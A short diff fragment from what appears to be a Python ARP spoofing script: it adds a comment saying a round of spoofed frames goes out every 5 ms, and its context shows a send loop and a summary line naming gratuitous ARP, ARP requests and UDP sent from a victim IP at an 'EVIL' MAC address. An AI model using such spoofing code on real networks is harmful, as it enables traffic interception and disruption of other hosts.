@@ -66,7 +66,7 @@ def main():
         for f in frames:
             s.send(f)
         n += 1
-        time.sleep(0.005)
+        time.sleep(0.005)  # pacing: a round of spoofs every 5 ms
     print(f"sent {n} rounds of gratuitous ARP, ARP request, UDP from {cons_ip} at {EVIL.hex(':')}")
 
 
